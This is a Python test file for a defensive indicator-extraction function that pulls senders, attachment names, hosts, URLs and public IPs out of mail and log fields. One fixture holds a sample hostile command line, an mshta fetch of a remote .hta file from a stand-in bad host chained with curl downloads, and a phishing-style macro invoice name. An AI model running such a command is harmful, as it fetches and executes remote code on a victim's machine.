from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from otasuke.findings.traces import Trace, TraceKind, traces_of


def test_sender_file_subject_and_relay_of_a_mail_are_traces() -> None:
    fields = {"mail_from": "<A@Bad.example>", "attachment": "請求書.xlsm", "subject": "請求書", "src_ip": "203.0.113.9"}

    assert traces_of(fields) == {
        Trace(TraceKind.SENDER, "a@bad.example"),
        Trace(TraceKind.FILE, "請求書.xlsm"),
        Trace(TraceKind.SUBJECT, "請求書"),
        Trace(TraceKind.ADDRESS, "203.0.113.9"),
    }


def test_addresses_of_the_office_and_paths_without_a_server_are_none() -> None:
    assert traces_of({"src_ip": "192.168.1.9", "url": "/index.html", "subject": " ", "query": ""}) == frozenset()


def test_of_a_path_the_name_counts_and_of_several_values_each() -> None:
    assert traces_of({"filename": r"C:\Temp\a.EXE", "dst_ip": ("203.0.113.1", "10.0.0.1")}) == {
        Trace(TraceKind.FILE, "a.exe"),
        Trace(TraceKind.ADDRESS, "203.0.113.1"),
    }


def test_what_a_command_fetches_from_outside_is_a_trace_and_its_host_too() -> None:
    command = r'mshta.exe "http://User:pw@Dl.Bad.example:8080/a.hta" & curl http://203.0.113.7/b http://10.0.0.9/c http://nas/d'

    assert traces_of({"CommandLine": command}) == {
        Trace(TraceKind.HOST, "dl.bad.example"),
        Trace(TraceKind.URL, "http://user:pw@dl.bad.example:8080/a.hta"),
        Trace(TraceKind.ADDRESS, "203.0.113.7"),
        Trace(TraceKind.URL, "http://203.0.113.7/b"),
    }


@given(
    st.dictionaries(
        st.sampled_from(("mail_from", "CommandLine", "filename", "src_ip", "url")), st.text() | st.tuples(st.text())
    )
)
def test_whatever_fields_hold_is_read(fields: dict[str, str | tuple[str, ...]]) -> None:
    assert all(trace.value and len(trace.value) <= 400 for trace in traces_of(fields))
